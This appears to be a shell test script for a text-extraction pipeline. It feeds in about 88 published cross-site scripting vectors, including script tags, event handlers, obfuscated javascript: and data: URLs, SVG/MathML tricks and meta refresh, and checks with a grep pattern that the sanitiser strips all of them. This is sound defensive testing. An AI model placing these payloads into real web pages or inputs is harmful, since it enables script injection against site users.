#!/usr/bin/env bash
# A published-style XSS vector list (OWASP filter-evasion cheat sheet,
# html5sec.org, PortSwigger's list: script, event handlers, javascript:/data:
# URLs in mixed case and entity-obfuscated, SVG, MathML, style, srcdoc,
# iframe, object/embed, form action, meta refresh, base href, comments and
# CDATA) through extract | clean | normalize, one post per vector between two
# harmless paragraphs. In the html of every record no vector survives, and the
# text keeps the paragraphs around it.
. "$(dirname "$0")/lib.sh"
command -v jq >/dev/null || skip "no jq"
mkdir "$T/p"
n=0
while IFS= read -r v; do
  n=$((n + 1))
  printf -- '---\ntitle: vector %d\n---\n<p>before%03d safe text</p>\n%s\n<p>after%03d safe text</p>\n' \
    "$n" "$n" "$v" "$n" >"$(printf '%s/p/v%03d.md' "$T" "$n")"
done <<'VECTORS'
<script>alert(1)</script>
<SCRIPT SRC=//xss.example/x.js></SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script/xss src="//xss.example/x.js"></script>
<<script>alert(1);//<</script>
<script>document.write("<scr"+"ipt>alert(1)</scr"+"ipt>")</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" alt="keep-alt">
<IMG SRC=x OnErRoR=alert(1)>
<img src=x onerror	=alert(1)>
<img/src=x/onerror=alert(1)>
<body onload=alert(1)>
<div onmouseover="alert(1)">hover</div>
<p onclick="alert(1)" class="x">click</p>
<input onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>
<video><source onerror="alert(1)"></video>
<marquee onstart=alert(1)>m</marquee>
<a href="javascript:alert(1)">link</a>
<a href="JaVaScRiPt:alert(1)">link</a>
<a href=" javascript:alert(1)">link</a>
<a href="jav&#x09;ascript:alert(1)">link</a>
<a href="jav&#x0A;ascript:alert(1)">link</a>
<a href="jav&#x0D;ascript:alert(1)">link</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>
<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">link</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">link</a>
<a href="javascript&colon;alert(1)">link</a>
<a href="vbscript:msgbox(1)">link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>
<a href="DATA:text/html,<script>alert(1)</script>">link</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="javascript:alert(1)">
<img src=JaVaScRiPt:alert(1)>
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<svg onload=alert(1)></svg>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">svg-link</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">CLICKME</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICKME</maction></math>
<style>body{background:url("javascript:alert(1)")}</style>
<STYLE>@import'//xss.example/x.css';</STYLE>
<div style="background-image:url(javascript:alert(1))">styled</div>
<div style="width:expression(alert(1))">styled</div>
<p STYLE="behavior:url(x.htc)">styled</p>
<link rel="stylesheet" href="javascript:alert(1)">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<IFRAME SRC="https://evil.example/" onload=alert(1)></IFRAME>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object type="text/x-scriptlet" data="https://xss.example/x.sct"></object>
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<embed src="javascript:alert(1)">
<applet code="x.class"></applet>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction="javascript:alert(1)">btn</button></form>
<isindex action="javascript:alert(1)" type=submit>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">
<meta charset="x-imap4-modified-utf7">
<base href="javascript:alert(1)//">
<BASE HREF="https://evil.example/">
<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>
<td background="javascript:alert(1)">cell</td>
<div><!--<img src=x onerror=alert(1)>--></div>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<div><![CDATA[</div><script>alert(1)</script>]]></div>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea><script>alert(1)</script></textarea>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<a href="https://ok.example/" target="_blank" onclick="alert(1)">ok-link</a>
<img src="https://ok.example/i.png" onload="alert(1)" alt="ok-img">
<a href="  &#14;javascript:alert(1)">link</a>
<a href="java&Tab;script:alert(1)">link</a>
<a href="javas&NewLine;cript:alert(1)">link</a>
<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">link</a>
<a href="javascript://%0Aalert(1)">link</a>
<img src=`javascript:alert(1)`>
<div id="x" data-x="y" tabindex="1" accesskey="x">attrs</div>
<keygen autofocus onfocus=alert(1)>
<x onclick=alert(1)>custom</x>
<a href="#" formaction=javascript:alert(1)>hash</a>
<template><script>alert(1)</script></template>
<portal src="https://evil.example/"></portal>
VECTORS
[ "$n" -ge 80 ] || fail "only $n vectors"

timeout 120 bash -c 'set -o pipefail; feedpipe-extract -q "$1" | feedpipe-clean -q | feedpipe-normalize -q >"$2"' \
  sh "$T/p" "$T/out.jsonl" || fail "pipeline exit $?"
[ "$(jq -c 'select(.reject == null)' "$T/out.jsonl" | wc -l)" = "$n" ] ||
  fail "rejects: $(jq -c 'select(.reject) | [.source.path, .reject.reason]' "$T/out.jsonl")"

# Nothing active in the html. Strict: the same strings as harmless escaped
# text would fail too (no vector leaves such text).
jq -r '[.source.path, .html] | @tsv' "$T/out.jsonl" >"$T/html.tsv"
if grep -E -i '<script|[[:space:]/"'"'"']on[a-z]+[[:space:]]*=|javascript:|vbscript:|data:|srcdoc|<iframe|<frame|<svg|<math|<style|style=|<object|<embed|<applet|<form|formaction|<meta|<base|<link|<template|<noscript|<portal|expression\(' "$T/html.tsv" >"$T/bad"; then
  fail "vectors survived:
$(cat "$T/bad")"
fi
# Only the tags and attributes clean allows are left.
grep -o -E '<[a-zA-Z][^>]*>' "$T/html.tsv" | grep -v -E '^<([a-z0-9]+|a href="[^"<>]*"|img src="[^"<>]*"( alt="[^"<>]*")?)>$' >"$T/tags" &&
  fail "unexpected tags: $(sort -u "$T/tags" | head -20)"

# The harmless text around each vector stays. An unclosed <svg> swallows the
# rest of its post, as libxml2 (HTML 4) parses it: v039 keeps "before" only.
jq -r '[.source.path, .text] | @tsv' "$T/out.jsonl" |
  awk -F'\t' '{ k = substr($1, 2, 3)
                if (index($2, "before" k " safe text") == 0 ||
                    (k != "039" && index($2, "after" k " safe text") == 0)) print "missing text: " $0 }' >"$T/missing"
[ ! -s "$T/missing" ] || fail "$(cat "$T/missing")"
# Harmless content of the vectors themselves stays too.
for want in v013.md:hover v014.md:click v045.md:styled v066.md:cell v076.md:ok-link v086.md:custom; do
  jq -r --arg p "${want%%:*}" 'select(.source.path == $p) | .text' "$T/out.jsonl" | grep -q -- "${want#*:}" ||
    fail "$want: $(jq -c --arg p "${want%%:*}" 'select(.source.path == $p) | .text' "$T/out.jsonl")"
done
echo "ok: $n vectors"
